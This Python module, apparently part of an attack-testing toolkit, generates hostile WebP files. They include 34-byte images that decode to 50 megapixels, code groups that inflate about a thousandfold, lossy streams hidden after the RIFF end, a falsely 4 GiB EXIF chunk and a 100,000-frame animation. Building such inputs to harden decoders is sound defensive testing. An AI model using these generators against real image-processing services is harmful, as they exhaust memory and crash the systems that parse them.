"""WebP: bitstreams behind the end of RIFF, trees that take a thousand times their bits, 50 megapixels in 34 bytes."""

import base64
import struct
import zlib
from fractions import Fraction

from fer_tools.attack_test.bits import LowFirst, canonical

LARGE = 7071
# Order in which the lengths of code lengths are stored.
ORDER = (17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15)
PREDICT, COLOR, SUBTRACT_GREEN = 0, 1, 2
# The probabilities that a token's probability is updated (RFC 6386, section 13.4), compressed.
UPDATES = zlib.decompress(base64.b85decode(
    "c-pO#u@1s83`GC`Z<zTLri!&fpomhMICfxY?mW0EmGJa>iXHpnwzd<e891ccF{?tJppIr8)s>i`J``vT*cPBT)dkbU!V0GSqfoc@dt8XunsiM"
    "bODekF&T0dDxGR}c<oITK^4>TAxyD__{`v#ZixUs{a26zvGWAT6r*>P}<jp;c(g^oL7G7<^JR40OY5lLU5Q|mA6K5FAKVT+S<APe{W-!amET9"
    ")rY3kQi)YZ@_u1WT?1v^*vCXTKC0J*Rj@&"
))  # fmt: skip


def riff(*chunks: tuple[bytes, bytes], tail: bytes = b"") -> bytes:
    """A file of these chunks; `tail` lies behind the end that its head names."""
    parts = (name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2) for name, data in chunks)
    body = b"WEBP" + b"".join(parts)
    return b"RIFF" + struct.pack("<I", len(body)) + body + tail


def extended(width: int, height: int, flags: int = 0) -> tuple[bytes, bytes]:
    """The chunk of the canvas."""
    return b"VP8X", struct.pack("<I", flags) + struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]


def single(bits: LowFirst, symbol: int) -> None:
    """A code of one symbol, which then takes no bits."""
    for value, length in ((1, 1), (0, 1), (1, 1), (symbol, 8)):
        bits.put(value, length)


def runs(lengths: list[tuple[int, int]]) -> list[tuple[int, int, int]]:
    """Code lengths, each with how often it follows, as symbols: the symbol, its extra value, its extra bits."""
    symbols, before = [], 8
    for length, times in lengths:
        if length != before:
            symbols.append((length, 0, 0))
            times, before = times - 1, length
        while times >= 3:
            now = min(times, 6)
            if 0 < times - now < 3 and now > 3:
                now = max(3, now - 2)
            symbols.append((16, now - 3, 2))
            times -= now
        symbols += [(length, 0, 0)] * times
    return symbols


def code(bits: LowFirst, lengths: list[tuple[int, int]]) -> None:
    """A prefix code by its lengths, which must make a complete code."""
    assert sum(Fraction(times, 1 << length) for length, times in lengths) == 1
    symbols = runs(lengths)
    used = {symbol for symbol, _, _ in symbols}
    often = sorted(used, key=lambda symbol: -sum(one[0] == symbol for one in symbols))
    # The most frequent one has one bit; the others share the other half evenly.
    of, rest = {often[0]: 1}, len(often) - 1
    depth = rest.bit_length() - 1
    short = 2 * (1 << depth) - rest
    for number, symbol in enumerate(often[1:]):
        of[symbol] = 1 + depth + (number >= short)
    prefix = canonical(of)
    stored = max(4, 1 + max(ORDER.index(symbol) for symbol in of))
    bits.put(0, 1)
    bits.put(stored - 4, 4)
    for symbol in ORDER[:stored]:
        bits.put(of.get(symbol, 0), 3)
    bits.put(0, 1)
    for symbol, extra, length in symbols:
        bits.code(*prefix[symbol])
        bits.put(extra, length)


def heavy_group() -> LowFirst:
    """Five trees of about 120 kB for 270 bytes."""
    group = LowFirst()
    code(group, [(1, 1), (2, 1), (3, 1), (14, 1771), (15, 554)])
    for _ in range(3):
        code(group, [(length, 1) for length in range(1, 8)] + [(14, 7), (15, 242)])
    code(group, [(length, 1) for length in range(1, 10)] + [(13, 1), (14, 30)])
    return group


def lossless_head(width: int, height: int) -> LowFirst:
    bits = LowFirst()
    for value, length in ((0x2F, 8), (width - 1, 14), (height - 1, 14), (0, 1), (0, 3)):
        bits.put(value, length)
    return bits


def groups(count: int) -> bytes:
    """Lossless, with that number of code groups, of which one is used."""
    group = heavy_group()
    side = max(16, int((len(group.bytes()) * count / 4) ** 0.5) + 8)
    bits = lossless_head(side, side)
    # No transform; a colour cache of 2¹¹; groups for blocks of 512×512, whose image has no cache.
    for value, length in ((0, 1), (1, 1), (11, 4), (1, 1), (7, 3), (0, 1)):
        bits.put(value, length)
    for symbol in (count - 1 & 255, count - 1 >> 8, 0, 0, 0):
        single(bits, symbol)
    bits.repeat(group, count - 1)
    for symbol in (120, 120, 120, 255, 0):
        single(bits, symbol)
    return riff((b"VP8L", bits.bytes()))


def uniform_bits(width: int, height: int, transforms: tuple[int, ...] = ()) -> bytes:
    """One colour, no bit a pixel."""
    bits = lossless_head(width, height)
    for transform in transforms:
        bits.put(1, 1)
        bits.put(transform, 2)
        if transform in (PREDICT, COLOR):
            bits.put(7, 3)  # blocks of 512×512
            bits.put(0, 1)
            for symbol in (11 if transform == PREDICT else 3, 5, 7, 255, 0):
                single(bits, symbol)
    bits.put(0, 3)  # no further transform, no colour cache, one code group
    for symbol in (120, 10, 20, 255, 0):
        single(bits, symbol)
    return bits.bytes()


def uniform(side: int = LARGE) -> bytes:
    """One colour in 34 bytes."""
    return riff((b"VP8L", uniform_bits(side, side)))


def transformed(side: int = LARGE) -> bytes:
    """One colour through all transforms that can be undone."""
    return riff((b"VP8L", uniform_bits(side, side, (PREDICT, COLOR, SUBTRACT_GREEN))))


class Arithmetic:
    """VP8's arithmetic coder (RFC 6386, section 7.3)."""

    def __init__(self) -> None:
        self.out, self.bottom, self.range, self.count = bytearray(), 0, 255, 24

    def put(self, bit: int, probability: int = 128) -> None:
        """Appends a bit."""
        split = 1 + ((self.range - 1) * probability >> 8)
        if bit:
            self.bottom += split
            self.range -= split
        else:
            self.range = split
        while self.range < 128:
            self.range <<= 1
            if self.bottom & 1 << 31:
                self.carry()
            self.bottom = self.bottom << 1 & 0xFFFFFFFF
            self.count -= 1
            if self.count == 0:
                self.out.append(self.bottom >> 24)
                self.bottom &= 0xFFFFFF
                self.count = 8

    def carry(self) -> None:
        at = len(self.out) - 1
        while self.out[at] == 255:
            self.out[at] = 0
            at -= 1
        self.out[at] += 1

    def number(self, value: int, bits: int) -> None:
        """Appends a number."""
        for bit in reversed(range(bits)):
            self.put(value >> bit & 1)

    def bytes(self) -> bytes:
        """All of it."""
        self.number(0, 32)
        return bytes(self.out)


def lossy_frame(width: int, height: int) -> bytes:
    """A key frame of skipped macroblocks, each predicted in sixteen parts, with the strongest loop filter."""
    bits = Arithmetic()
    # Colour space and clamping, no segments, the loop filter, one partition, the quantiser.
    for value, length in ((0, 2), (0, 1), (0, 1), (63, 6), (0, 3), (0, 1), (0, 2), (0, 7), (0, 5), (0, 1)):
        bits.number(value, length)
    for probability in UPDATES:
        bits.put(0, probability)
    bits.put(1)
    bits.number(1, 8)  # nearly all are skipped
    macroblock = [(1, 1), (0, 145), *[(0, 231)] * 16, (0, 142)]
    for _ in range(-(-width // 16) * -(-height // 16)):
        for bit, probability in macroblock:
            bits.put(bit, probability)
    part = bits.bytes()
    assert len(part) < 1 << 19, "the first partition is too long"
    return struct.pack("<I", len(part) << 5 | 1 << 4)[:3] + b"\x9d\x01\x2a" + struct.pack("<HH", width, height) + part + bytes(64)


def lossy(side: int = LARGE) -> bytes:
    """One lossy frame of 50 megapixels."""
    return riff((b"VP8 ", lossy_frame(side, side)))


def lossy_tail(width: int = 16383, height: int = 4096) -> bytes:
    """A lossy bitstream of 67 megapixels behind the end of RIFF; the canvas has 16×16."""
    data = lossy_frame(width, height)
    return riff(extended(16, 16), tail=b"VP8 " + struct.pack("<I", len(data)) + data)


def exif_tail() -> bytes:
    """An EXIF chunk behind the end of RIFF that says it has 4 GiB."""
    return riff(extended(16, 16, 8), (b"VP8L", uniform_bits(16, 16)), tail=b"EXIF" + b"\xfe\xff\xff\xff" + b"\0\0")


def frames(count: int = 100_000) -> bytes:
    """An animation whose first frame has 50 megapixels."""
    data = uniform_bits(LARGE, LARGE)
    size = struct.pack("<I", LARGE - 1)[:3]
    frame = bytes(6) + size + size + bytes(4) + b"VP8L" + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)
    return riff(extended(LARGE, LARGE, 2), (b"ANIM", bytes(6)), *[(b"ANMF", frame)] * count)
